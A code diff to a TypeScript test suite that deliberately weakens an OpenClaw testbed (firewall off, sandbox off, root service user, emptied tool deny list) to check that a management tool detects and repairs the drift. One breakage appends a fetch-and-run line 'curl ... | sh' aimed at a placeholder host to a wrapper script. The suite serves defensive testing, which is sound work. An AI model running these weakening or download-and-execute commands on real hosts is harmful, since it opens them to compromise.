@@ -6,6 +6,8 @@
  * which the test then performs as written), one apply fixes it, the same checks pass and a
  * second plan is empty. Breakages that touch independent things share a round (one apply) to
  * keep the time bounded; every breakage still has its own check ids asserted before and after.
+ * The newest OpenClaw runs the whole table; an older one the breakages whose handling depends on
+ * the version (roundsFor).
  */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
@@ -47,6 +49,10 @@ interface Breakage {
   gap?: string;
   /** only on the versions where this holds */
   when?: (v: TestbedOpenclawVersion) => boolean;
+  /** what it breaks is handled per OpenClaw version (openclaw.json, the gateway): older versions run it too */
+  versioned?: true;
+  /** keeps its own round on every version (it conflicts with a breakage of another round) */
+  alone?: true;
 }
 
 interface Result {
@@ -104,17 +110,17 @@ export const ROUNDS: Breakage[][] = [
     { name: 'service user added to the docker group', ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
   ],
   [
-    { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
-    { name: 'tools.profile full', ids: ['openclaw.config.tools-profile'], break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
-    { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
+    { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
+    { name: 'tools.profile full', ids: ['openclaw.config.tools-profile'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
+    { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
     { name: 'unit file: RestartSec changed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
     { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
     { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
     { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
   ],
   [
-    { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
-    { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
+    { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
+    { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
     { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
     { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
     { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
@@ -122,10 +128,10 @@ export const ROUNDS: Breakage[][] = [
     { name: 'token in the env file shortened', ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
   ],
   [
-    { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
-    { name: 'controlUi enabled', ids: ['openclaw.config.control-ui'], break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
-    { name: 'mdns full', ids: ['openclaw.config.mdns'], break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
-    { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
+    { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
+    { name: 'controlUi enabled', ids: ['openclaw.config.control-ui'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
+    { name: 'mdns full', ids: ['openclaw.config.mdns'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
+    { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
     { name: 'terminal enabled', ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
     { name: 'drop-in removing ProtectSystem', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
     { name: 'fail2ban jail.local bantime changed', ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
@@ -147,6 +153,8 @@ export const ROUNDS: Breakage[][] = [
     {
       name: 'a value OpenClaw rejects (gateway.bind "everywhere")',
       ids: ['openclaw.config.bind'],
+      versioned: true,
+      alone: true,
       break: async (ex) => {
         await editConfig(ex, (c) => { at(c, 'gateway').bind = 'everywhere'; });
         await sh(ex, 'systemctl restart openclaw.service || true');
@@ -157,6 +165,8 @@ export const ROUNDS: Breakage[][] = [
     {
       name: 'gateway.bind lan and restarted: listening beyond loopback',
       ids: ['openclaw.config.bind', 'network.gateway-loopback'],
+      versioned: true,
+      alone: true,
       break: async (ex) => {
         await editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; });
         // as an operator would: clear a latched start limit, restart, wait for a listener beyond loopback
@@ -168,10 +178,24 @@ export const ROUNDS: Breakage[][] = [
     {
       name: 'openclaw.json no longer parses (the gateway exits 78 in a loop)',
       ids: ['openclaw.config.present'],
+      versioned: true,
+      alone: true,
       break: (ex) => sh(ex, `printf '{ gateway: { mode: "local", ' >> ${CONFIG} && (systemctl restart openclaw.service || true)`),
     },
   ],
 ];
+
+/**
+ * The rounds a version runs: the newest every breakage; an older one only the versioned ones (the
+ * host breakages are the same code on every version), those of the shared rounds in one apply.
+ */
+export function roundsFor(version: TestbedOpenclawVersion): Breakage[][] {
+  const rounds = ROUNDS.map((r) => r.filter((b) => !b.when || b.when(version)));
+  if (nineX(version)) return rounds;
+  const shared = rounds.flatMap((r) => r.filter((b) => b.versioned && !b.alone));
+  const alone = rounds.filter((r) => r.some((b) => b.alone)).map((r) => r.filter((b) => b.versioned));
+  return [shared, ...alone].filter((r) => r.length > 0);
+}
 
 export interface DriftTarget {
   tb(): Testbed;
@@ -195,8 +219,8 @@ export function driftRounds(version: TestbedOpenclawVersion, on: DriftTarget): v
   };
   let broken = 0;
 
-  ROUNDS.forEach((round, n) => {
-    const table = round.filter((b) => !b.when || b.when(version));
+  const rounds = roundsFor(version);
+  rounds.forEach((table, n) => {
     const gaps = table.flatMap((b) => (b.gap ? [b.gap] : []));
     test(`drift round ${n + 1}: ${table.map((b) => b.name).join('; ')}`, { timeout: 1_200_000, ...(gaps.length ? { todo: gaps.join('; ') } : {}) }, async (t) => {
       if (!on.converged()) return t.skip('the fresh apply did not converge and pass the gate');
@@ -257,6 +281,6 @@ export function driftRounds(version: TestbedOpenclawVersion, on: DriftTarget): v
     for (const x of notPassing) t.diagnostic(`${x.status} ${x.id}: ${x.evidence ?? ''}`);
     assert.deepEqual(notPassing.filter((x) => !(x.id in EXTERNAL)).map((x) => `${x.id}: ${x.status}: ${x.evidence ?? ''}`), []);
     await emptyPlan();
-    t.diagnostic(`${broken} breakages in ${ROUNDS.length} rounds; final gate + plan ${((performance.now() - t0) / 1000).toFixed(1)} s`);
+    t.diagnostic(`${broken} breakages in ${rounds.length} rounds; final gate + plan ${((performance.now() - t0) / 1000).toFixed(1)} s`);
   });
 }
